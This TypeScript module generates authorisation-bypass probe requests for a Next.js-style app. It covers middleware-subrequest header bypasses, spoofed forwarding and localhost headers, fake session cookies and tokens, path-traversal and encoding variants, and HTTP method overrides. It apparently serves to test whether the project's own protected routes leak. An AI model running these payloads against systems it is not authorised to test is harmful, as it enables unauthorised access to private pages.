/** A request that may lead somewhere else than its path says. */
export interface Trick {
  name: string;
  path: string;
  method?: string;
  headers?: Record<string, string>;
  body?: string;
}

const html = { accept: "text/html" };
const flight = { rsc: "1", "sec-fetch-site": "same-origin" };
const JSON_BODY = { "content-type": "application/json" };

/** The state tree of a page that has loaded all but its innermost part: the frames around it need not be asked. */
const innermost = (path: string) => {
  const tree = path
    .split("/")
    .filter(Boolean)
    .reduceRight<unknown[]>(
      (inner, segment) => [segment, { children: inner }, null, null],
      ["__PAGE__", {}, null, "refetch"],
    );
  return encodeURIComponent(
    JSON.stringify(["", { children: ["(console)", { children: tree }] }]),
  );
};

const headerTricks = (
  path: string,
): Record<string, Record<string, string>> => ({
  plain: {},
  subrequest: { "x-middleware-subrequest": "middleware" },
  "subrequest of src": {
    "x-middleware-subrequest": Array(5).fill("src/middleware").join(":"),
  },
  "subrequest of proxy": {
    "x-middleware-subrequest": Array(5).fill("proxy").join(":"),
  },
  "middleware's words": {
    "x-middleware-next": "1",
    "x-middleware-rewrite": path,
    "x-middleware-prefetch": "1",
    "x-middleware-override-headers": "cookie",
  },
  "data of pages": { "x-nextjs-data": "1" },
  "platform's words": {
    "x-matched-path": path,
    "x-now-route-matches": "1=a",
    "x-invoke-path": path,
    "x-invoke-output": path,
    "x-invoke-status": "200",
    "x-prerender-revalidate": "1",
  },
  "rewritten by headers": { "x-original-url": path, "x-rewrite-url": path },
  "another host": {
    "x-forwarded-host": "localhost",
    "x-forwarded-proto": "https",
    forwarded: "host=localhost",
  },
  "this machine's": {
    "x-forwarded-for": "127.0.0.1",
    "x-real-ip": "127.0.0.1",
    "x-client-address": "127.0.0.1",
    "x-request-path": path,
  },
  "made-up session": { cookie: "next-auth.session-token=made-up" },
  "made-up key": { authorization: "Bearer lp_0000000000000000000000" },
  resumed: { "next-resume": "1", "x-next-resume-state-length": "4" },
  range: { range: "bytes=0-" },
  flight: { ...flight },
  prefetch: { ...flight, "next-router-prefetch": "1" },
  segment: {
    ...flight,
    "next-router-prefetch": "1",
    "next-router-segment-prefetch": "/_tree",
  },
  tree: { ...flight, "next-router-state-tree": innermost(path) },
  action: { "next-action": "0".repeat(42) },
});

const pathTricks = (path: string): string[] => [
  `${path}?_rsc=1`,
  `${path}?__flight__=1`,
  `${path}?__nextDataReq=1`,
  `${path}?nxtPappid=x`,
  `${path}.rsc`,
  `${path}.json`,
  `${path}.txt`,
  `${path}.html`,
  `${path}.map`,
  `${path}.segments/_tree.segment.rsc`,
  `${path}/`,
  `${path}.`,
  `${path}/.`,
  `${path}..`,
  `${path}%2f`,
  `${path}%20`,
  `${path}%00`,
  `${path};a=b`,
  `${path}\\`,
  `/${path}`,
  `/.${path}`,
  `/sign-in/..${path}`,
  `/sign-in/%2e%2e${path}`,
  `/sign-in/..%2f${path.slice(1)}`,
  path.toUpperCase(),
  path.replace(/[a-z]/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  `/index${path}`,
  `/en${path}`,
  `/(console)${path}`,
  `/_next/data/build${path}.json`,
  `/_next/image?url=${encodeURIComponent(path)}&w=64&q=75`,
  `/_next/static/..${path}`,
  `/_next/static/%2e%2e/server/app${path}.html`,
  `/_next/server/app${path}.html`,
];

/** The tricks of the field to see what a path holds without being let in. */
export function tricksOn(path: string): Trick[] {
  return [
    ...Object.entries(headerTricks(path)).flatMap(([name, headers]) => [
      { name, path, headers: { ...html, ...headers } },
    ]),
    ...["flight", "prefetch", "segment", "tree"].map((name) => ({
      name: `${name} with a made-up session`,
      path: `${path}?_rsc=1`,
      headers: {
        cookie: "next-auth.session-token=made-up",
        ...headerTricks(path)[name],
      },
    })),
    ...pathTricks(path).map((odd) => ({
      name: "path",
      path: odd,
      headers: html,
    })),
    ...["HEAD", "OPTIONS", "TRACE", "PROPFIND"].map((method) => ({
      name: method,
      path,
      method,
    })),
    ...["POST", "PUT", "PATCH", "DELETE"].flatMap((method) => [
      { name: method, path, method, headers: JSON_BODY, body: "{}" },
      {
        name: `${method} as GET`,
        path,
        method,
        headers: { ...JSON_BODY, "x-http-method-override": "GET" },
        body: "{}",
      },
    ]),
  ];
}
